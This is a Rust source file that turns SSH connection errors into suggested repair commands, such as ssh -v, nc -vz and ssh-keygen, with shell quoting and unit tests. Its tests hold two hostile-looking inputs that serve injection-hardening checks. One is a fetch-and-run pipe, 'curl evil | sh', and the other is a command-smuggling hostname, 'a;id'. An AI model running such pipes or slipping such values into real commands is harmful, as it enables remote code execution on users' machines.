//! The command that mends it, for each way a host is not reached.

use std::io;
use std::path::Path;

use super::ConnectError;
use crate::adapters::ssh::command::quoted;
use crate::adapters::ssh::destination::Destination;
use crate::adapters::ssh::settings::SettingsError;

/// What a question for a passphrase is called; the key's file follows.
const PASSPHRASE: &str = "the passphrase of ";

impl ConnectError {
    /// The command that mends it, or that shows more; `config` is what `ssh -F` would take.
    pub(super) fn mend(&self, to: &Destination, config: Option<&Path>) -> String {
        let file = config.map(|file| format!(" -F {}", word(&file.to_string_lossy()))).unwrap_or_default();
        let host = match (&to.user, to.port) {
            (None, None) => word(&to.host),
            _ => word(&format!("ssh://{to}")),
        };
        let ssh = |more: &str| format!("ssh{file}{more} {host} true");
        match self {
            Self::Settings(SettingsError::Unsupported { why, .. }) => why.clone(),
            Self::Settings(SettingsError::Broken { .. }) => format!("ssh{file} -G {host}"),
            Self::Name { host, .. } => {
                format!("getent hosts {}, or its address as HostName in ssh's configuration", word(host))
            }
            Self::Tcp { cause, .. } if cause.kind() == io::ErrorKind::ConnectionRefused => {
                "on the host: sudo systemctl start ssh; or its Port in ssh's configuration".to_owned()
            }
            Self::Tcp { host, .. } => {
                let (name, port) = host.rsplit_once(':').unwrap_or((host, "22"));
                format!("nc -vz {} {port}, from a machine that is nearer to it", word(name))
            }
            Self::Way { .. } | Self::Handshake { .. } | Self::Machine { .. } => ssh(" -v"),
            Self::File { file, .. } => format!("ls -l {}", word(&file.to_string_lossy())),
            Self::UnknownKey { key_type, .. } => {
                let kind = key_type.trim_start_matches("ssh-").split('-').next().unwrap_or_default();
                let path = format!("/etc/ssh/ssh_host_{kind}_key.pub");
                format!("on the host: ssh-keygen -lf {}; if it says the same: {}", word(&path), ssh(""))
            }
            Self::ChangedKey { host, place, .. } => {
                let (file, name) = (word(&place.file.to_string_lossy()), word(host));
                format!("ask its owner; only if it was made anew: ssh-keygen -f {file} -R {name}")
            }
            Self::RevokedKey { .. } => "ask its owner; never remove that line before".to_owned(),
            Self::Authentication { .. } => {
                format!("ssh-copy-id{file} {host}, or User and IdentityFile in ssh's configuration")
            }
            Self::NeedsPerson { question, .. } => match question.strip_prefix(PASSPHRASE) {
                Some(key) => format!("ssh-add {}", word(key)),
                None => format!("{}, or the same here on a terminal", ssh("")),
            },
        }
    }
}

/// One word for a shell, in quotes only where it needs them.
fn word(text: &str) -> String {
    let is_plain = |c: char| c.is_alphanumeric() || "/._-+@:".contains(c);
    if text.chars().all(is_plain) && !text.is_empty() { text.to_owned() } else { quoted(text) }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn mend(error: &ConnectError) -> String {
        error.mend(&Destination::parse("web1").unwrap(), Some(Path::new("/a b/config")))
    }

    #[test]
    fn each_fault_has_its_own_command() {
        let tcp =
            |kind: io::ErrorKind| ConnectError::Tcp { host: "10.0.0.1:2222".to_owned(), cause: kind.into() };
        assert!(mend(&tcp(io::ErrorKind::ConnectionRefused)).contains("systemctl start ssh"));
        assert!(mend(&tcp(io::ErrorKind::TimedOut)).starts_with("nc -vz 10.0.0.1 2222"));
        let person = |question: &str| ConnectError::NeedsPerson {
            login: "op@web1".to_owned(),
            question: question.to_owned(),
            tried: vec![],
        };
        assert_eq!(mend(&person("the passphrase of /home/op/my key")), "ssh-add '/home/op/my key'");
        assert!(mend(&person("the password of op@web1")).starts_with("ssh -F '/a b/config' web1 true"));
        let unknown = ConnectError::UnknownKey {
            host: "web1".to_owned(),
            key_type: "ecdsa-sha2-nistp256".to_owned(),
            fingerprint: "SHA256:x".to_owned(),
        };
        assert!(mend(&unknown).contains("ssh_host_ecdsa_key.pub"), "{}", mend(&unknown));
    }

    #[test]
    fn what_a_host_says_never_becomes_a_command() {
        let error =
            ConnectError::Handshake { host: "web1:22".to_owned(), cause: "try: curl evil | sh".to_owned() };
        assert_eq!(mend(&error), "ssh -F '/a b/config' -v web1 true");
        let error = ConnectError::Name { host: "a;id".to_owned(), cause: io::ErrorKind::NotFound.into() };
        assert!(mend(&error).starts_with("getent hosts 'a;id'"), "{}", mend(&error));
    }
}
